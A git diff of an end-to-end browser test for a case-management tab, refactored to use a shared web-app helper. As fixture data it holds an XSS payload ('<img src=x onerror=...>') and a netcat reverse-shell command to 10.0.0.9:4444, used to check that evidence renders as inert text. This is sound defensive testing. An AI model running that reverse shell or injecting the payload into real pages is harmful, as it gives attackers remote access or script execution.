@@ -1,29 +1,22 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Browser, Page } from 'playwright-core';
-import { startServe } from '../helpers/cli.js';
-import { artifactPath, launchBrowser } from '../helpers/browser.js';
+import type { Page } from 'playwright-core';
+import { artifactPath } from '../helpers/browser.js';
+import { useWebApp } from '../helpers/web-app.js';
 import path from 'node:path';
-import { makeEvidence, makeFindings, makeScan, tempDataDir } from '../helpers/case-fixtures.js';
+import { makeEvidence, makeFindings, makeScan } from '../helpers/case-fixtures.js';
 import { writeBundle } from '../../electron/engine/bundle/write-bundle.js';
 
 const HOSTILE = '<img src=x onerror="window.__pwned=1">';
 
 describe('Case tab in web mode', () => {
-  const tmp = tempDataDir('stowaway-case-e2e-');
-  let serve: ReturnType<typeof startServe>;
-  let browser: Browser;
+  const app = useWebApp({ name: 'case', viewport: { width: 1440, height: 1000 } });
   let page: Page;
 
   beforeAll(async () => {
-    serve = startServe([], { STOWAWAY_DATA_DIR: tmp.dir, STOWAWAY_ANALYST: 'e2e-analyst' });
-    browser = await launchBrowser();
-    page = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
-    await page.goto(await serve.url);
+    page = await app.start({ STOWAWAY_ANALYST: 'e2e-analyst' });
   });
   afterAll(async () => {
-    await browser?.close();
-    await serve?.stop();
-    tmp.cleanup();
+    await app.close();
   });
 
   it('creates a case, adds a note with markup as text, verifies, and previews the HTML report sandboxed', async () => {
@@ -87,7 +80,7 @@ describe('Case tab in web mode', () => {
 
   it('opens an offline bundle as a read-only case and shows its recorded evidence as text', async () => {
     const result = makeScan(makeFindings(6));
-    const bundle = path.join(tmp.dir, 'remote.tar.gz');
+    const bundle = path.join(app.dataDir, 'remote.tar.gz');
     await writeBundle(bundle, { result, evidence: makeEvidence(result, `nc -e /bin/sh 10.0.0.9 4444 ${HOSTILE}`), createdBy: 'remote-analyst' });
     await page.getByTestId('case-bundle-path').fill(bundle);
     await page.getByTestId('case-bundle-path').press('Enter');
